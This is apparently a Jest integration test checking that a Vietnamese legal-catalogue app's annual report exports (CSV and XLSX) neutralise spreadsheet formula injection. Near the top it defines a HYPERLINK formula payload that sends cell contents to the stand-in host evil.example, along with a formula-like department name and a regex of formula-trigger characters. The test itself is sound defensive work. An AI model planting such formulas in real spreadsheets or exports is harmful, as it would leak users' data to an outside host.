import ExcelJS from 'exceljs';
import { Role } from '@app/common/role';
import { parseCsv } from '@libs/reports';
import { addDays } from '@libs/vn';
import { apiPath, call, department, Department, startApp, TestApp } from './harness';
import { draftDecision, magazine, MISSION_ACT, readyCase, today, verifyRows } from './decisions-support';
import { approve, versionOn } from './legal-support';
import { issue } from './reports-support';

jest.setTimeout(180_000);

/**
 * Issue 12 finding 7 (spreadsheet formula injection), through HTTP: a catalogue description written to be a formula
 * reaches the annual report's CSV and XLSX as inert text, split on "," or on ";" (Excel with Vietnamese regional
 * settings), and the numbers stay numbers.
 */
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây để xem chi tiết")';
/** The department's own name opens the scope line of every sheet. */
const HOSTILE_DEPARTMENT = '@SUM(1;2) Sở Văn hóa và Thể thao';

/** What a spreadsheet evaluates: a text cell opening with one of these (a bare number such as -5 is data). */
const live = (cell: string): boolean => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);

const download = async (t: TestApp, path: string, token: string): Promise<{ status: number; bytes: Buffer }> => {
  const res = await fetch(`${t.url}${apiPath(path)}`, { headers: { authorization: `Bearer ${token}` } });
  return { status: res.status, bytes: Buffer.from(await res.arrayBuffer()) };
};

/**
 * A later version of the act whose description is the formula: proposed by the department's legal officer and
 * approved by a second one (the catalogue's four-eyes review), as any two curators can; the report labels each code
 * with its latest version's description.
 */
async function plantDescription(t: TestApp, d: Department, code: string, descriptionVi: string): Promise<void> {
  const res = await call(t, 'POST', '/legal/catalogue/versions', {
    token: d.sessions[Role.LegalOfficer].token,
    body: {
      code,
      effectiveFrom: addDays(today, 3650),
      amendedBy: null,
      fine: (await versionOn(t, d, code)).fine,
      sourceUrl: 'https://vanban.chinhphu.vn/example',
      descriptionVi,
      endPreviousVersion: true,
    },
  });
  if (res.status !== 201) throw new Error(`add version: ${res.status} ${JSON.stringify(res.body)}`);
  await approve(t, d, res.body.addedBy.changeId);
}

describe('annual report exports keep hostile text inert (issue 12: finding 7)', () => {
  let t: TestApp;
  let a: Department;
  const year = Number(today.slice(0, 4));

  beforeAll(async () => {
    t = await startApp();
    a = await department(t, HOSTILE_DEPARTMENT);
    await verifyRows(t, a, [MISSION_ACT]);
    const c = await readyCase(t, a, await magazine(t, a), [{ code: MISSION_ACT, endedOn: addDays(today, -50), facts: 'Đăng tin ngoài tôn chỉ, mục đích' }]);
    const draft = await draftDecision(t, a, c.id);
    await issue(t, a, draft.id);
    await plantDescription(t, a, MISSION_ACT, HYPERLINK);
  });
  afterAll(() => t.close());

  it('should write the description as inert text in the CSV, read with "," or with ";" as separator', async () => {
    for (const role of [Role.Leader, Role.MinistryViewer]) {
      const res = await download(t, `/reports/annual.csv?year=${year}&sheet=by-catalogue-code`, a.sessions[role].token);
      expect(res.status).toBe(200);
      const text = res.bytes.toString('utf8');
      const rows = parseCsv(text);
      const line = rows.find((r) => r[0] === MISSION_ACT);
      expect(line?.slice(1, 2)).toEqual([`'${HYPERLINK}`]);
      // Số hành vi (năm, năm trước), tiền phạt (năm, năm trước), đã nộp (năm, năm trước): plain numbers.
      expect(line?.slice(2).every((v) => /^-?\d+$/.test(v))).toBe(true);
      for (const separator of [',', ';'] as const) expect(parseCsv(text, separator).flat().filter(live)).toEqual([]);
    }
  });

  it('should write every text cell of the workbook as a string, none live, and the figures as numbers', async () => {
    const res = await download(t, `/reports/annual.xlsx?year=${year}`, a.sessions[Role.Leader].token);
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.bytes as unknown as ArrayBuffer);
    const problems: string[] = [];
    book.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) problems.push(`${ws.name}!${cell.address} is a formula`);
          if (cell.type === ExcelJS.ValueType.String && live(String(cell.value))) problems.push(`${ws.name}!${cell.address} opens with ${String(cell.value).slice(0, 1)}`);
        }),
      ),
    );
    expect(problems).toEqual([]);
    const byCode = book.getWorksheet('Theo hành vi')!;
    const line = byCode.getRows(4, byCode.rowCount)!.find((r) => r.getCell(1).value === MISSION_ACT)!;
    expect([line.getCell(2).type, line.getCell(2).value]).toEqual([ExcelJS.ValueType.String, `'${HYPERLINK}`]);
    expect([line.getCell(5).type, line.getCell(5).value]).toEqual([ExcelJS.ValueType.Number, expect.any(Number)]);
    expect(line.getCell(5).value).toBeGreaterThan(0);
    expect(byCode.getCell(2, 1).value).toBe(`'${HOSTILE_DEPARTMENT} — năm ${year} so với năm ${year - 1}`);
  });
});
